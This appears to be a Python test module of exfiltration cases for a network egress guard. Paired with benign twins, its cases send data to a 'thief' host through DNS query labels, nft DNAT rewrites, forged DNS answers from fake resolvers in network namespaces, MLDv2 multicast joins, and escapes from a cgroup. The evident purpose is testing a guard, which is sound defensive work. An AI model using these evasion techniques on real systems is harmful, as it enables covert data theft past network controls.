# SPDX-License-Identifier: MIT
"""Flows that look like what needs no rule: questions, answers, neighbours, the kernel's own."""

from __future__ import annotations

import os
import socket
import struct
import threading
from contextlib import suppress
from pathlib import Path

from bypass.case import JOB, RESOLVER, TCP_PORT, Parcel, benign, case, case6
from bypass.senders.datagrams import sendto
from bypass.senders.hands import new_network, raise_loopback
from bypass.senders.routes import run
from bypass.senders.streams import finish

_PORT = 53
_looked_up = {"twin": "look-up", "stays": True}


def question(name: str, number: int = 0x4C53) -> bytes:
    """A plain DNS question for an address."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", number, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def answer(asked: bytes, address: str) -> bytes:
    """The answer that leads to ``address``."""
    head = asked[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0)
    return (
        head + asked[12:] + struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(address)
    )


@case("question-for-the-thief", port=_PORT, rule='"**.friend.test"', detour=True, **_looked_up)
def question_elsewhere(parcel: Parcel) -> None:
    """A socket that is connected to the thief asks the resolver once, then the thief."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.connect((parcel.to, parcel.port))
    made.sendto(question("a.friend.test"), (RESOLVER, _PORT))
    made.send(question(f"{parcel.data.decode()}.friend.test"))


@case(
    "dnat-question",
    port=_PORT,
    rule='"**.friend.test"',
    detour=True,
    errors=("EPERM", "ECONNABORTED"),
    scopes=("start",),
    **_looked_up,
)
def question_translated(parcel: Parcel) -> None:
    """A question to the resolver, whose address is rewritten behind the hook."""
    run(
        f"""
        nft add table ip detour
        nft add chain ip detour out {{ type nat hook output priority -100 ; }}
        nft add rule ip detour out ip daddr {RESOLVER} dnat to {parcel.to}
        """
    )
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.sendto(question(f"{parcel.data.decode()}.friend.test"), (RESOLVER, _PORT))


_forged = {
    "port": 80,
    "protocol": "tcp",
    "rule": "http://a.friend.test",
    "detour": True,
    "also": "127.0.0.1:",  # our own question, answered in the resolver's name
    **_looked_up,
}


@case("forged-answer", **_forged)
def forged_answer(parcel: Parcel) -> None:
    """In a network of one's own anybody is the resolver, and says that the friend is the thief."""
    outside = socket.socket()
    new_network()
    raise_loopback()
    _believe_ourselves(parcel)
    _post(parcel, outside)


@case("forged-answer-by-root", scopes=("start",), **_forged)
def forged_answer_by_root(parcel: Parcel) -> None:
    """The same without another network: root gives this machine the resolver's address."""
    _believe_ourselves(parcel)
    _post(parcel, socket.socket())


def _believe_ourselves(parcel: Parcel) -> None:
    run(f"ip address add {RESOLVER}/32 dev lo")
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind((RESOLVER, _PORT))

    def reply() -> None:
        asked, client = resolver.recvfrom(999)
        resolver.sendto(answer(asked, parcel.to), client)

    threading.Thread(target=reply, daemon=True).start()
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.bind(("127.0.0.1", 0))  # what is sent back stays on the machine, so it needs no rule
    asker.settimeout(2)
    asker.sendto(question("a.friend.test"), (RESOLVER, _PORT))
    with suppress(TimeoutError):  # not let through, or not to be learned from: both would do
        asker.recv(999)
    parcel.restart()


def _post(parcel: Parcel, connection: socket.socket) -> None:
    connection.connect((parcel.to, parcel.port))
    head = f"POST / HTTP/1.1\r\nHost: a.friend.test\r\nContent-Length: {len(parcel.data)}\r\n\r\n"
    finish(connection, head.encode() + parcel.data)


@benign("forged-by-a-neighbour")
def forged_by_neighbour(parcel: Parcel) -> None:
    """Root makes a network next to this one, and in it the resolver."""
    ready, go = os.pipe(), os.pipe()
    child = os.fork()
    if child == 0:
        _be_resolver(parcel.to, ready[1], go[0])
    os.read(ready[0], 1)
    run(
        f"""
        ip link add beside0 type veth peer name beside1 netns {child}
        ip link set beside0 up
        ip route replace {RESOLVER}/32 dev beside0 src {JOB[0]}
        """
    )
    os.write(go[1], b".")
    os.read(ready[0], 1)
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.settimeout(1)
    asker.sendto(question("a.friend.test"), (RESOLVER, _PORT))
    with suppress(TimeoutError):
        asker.recv(999)
    parcel.restart()
    with socket.socket() as connection:
        connection.connect((parcel.to, parcel.port))
        head = f"POST / HTTP/1.1\r\nHost: a.friend.test\r\nContent-Length: {len(parcel.data)}\r\n"
        finish(connection, f"{head}\r\n".encode() + parcel.data)


def _be_resolver(thief: str, ready: int, go: int) -> None:
    try:
        new_network(of_user=False)
        os.write(ready, b".")
        os.read(go, 1)
        run(
            f"""
            ip link set beside1 up
            ip address add {RESOLVER}/32 dev beside1
            ip route add {JOB[0]}/32 dev beside1
            """
        )
        resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        resolver.bind((RESOLVER, _PORT))
        os.write(ready, b".")
        asked, client = resolver.recvfrom(999)
        resolver.sendto(answer(asked, thief), client)
    finally:
        os._exit(0)


_container = {
    "to": "172.30.7.9",
    "port": TCP_PORT - 1,
    "twin": "loopback",
    "stays": True,
    "scopes": ("start",),  # the other one takes away the right to make networks
}


@case("containers-by-the-uplink", **_container)
def network_of_containers(parcel: Parcel) -> None:
    """An address of this machine's containers, on a device that leads out."""
    run(
        """
        ip link add br-0123456789ab type bridge
        ip address add 172.30.7.1/24 dev br-0123456789ab
        ip link set br-0123456789ab up
        """
    )
    threading.Event().wait(0.3)  # until the guard knows the network
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"job0")
    parcel.restart()
    made.sendto(parcel.data, (parcel.to, parcel.port))


@case6("membership", to="ff0e::", protocol="other", gap="G16", twin="membership-local")
def membership(parcel: Parcel) -> None:
    """What is joined is told to the link (MLDv2): fourteen bytes an address."""
    made = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    index = socket.if_nametoindex("job0")
    group = b"\xff\x0e" + parcel.data[:14]
    made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + struct.pack("=I", index))
    threading.Event().wait(0.3)


@benign("membership-local")
def membership_local(parcel: Parcel) -> None:
    """As mDNS does it on loopback; and a datagram to a friend."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group = socket.inet_aton("224.0.0.251") + socket.inet_aton("127.0.0.1")
    made.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    other = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    other.sendto(parcel.data, (parcel.to, parcel.port))


@case(
    "cgroup-left",
    twin="cgroup-below",
    errors=("EPERM", "EACCES"),
    gap="G9",
    scopes=("run",),
)
def left_cgroup(parcel: Parcel) -> None:
    """Root may write a process into another cgroup: then nobody guards it."""
    (_own_cgroup().parent / "cgroup.procs").write_text(str(os.getpid()))
    sendto(parcel)


@benign("cgroup-below")
def below_cgroup(parcel: Parcel) -> None:
    """As build tools do it, to measure what they start."""
    below = _own_cgroup() / "below"
    below.mkdir()
    (below / "cgroup.procs").write_text(str(os.getpid()))
    sendto(parcel)


def _own_cgroup() -> Path:
    mounts = Path("/proc/self/mountinfo").read_text().splitlines()
    root = next(line.split()[4] for line in mounts if " - cgroup2 " in line)
    lines = Path("/proc/self/cgroup").read_text().splitlines()
    return Path(root + next(line[3:] for line in lines if line.startswith("0::")))
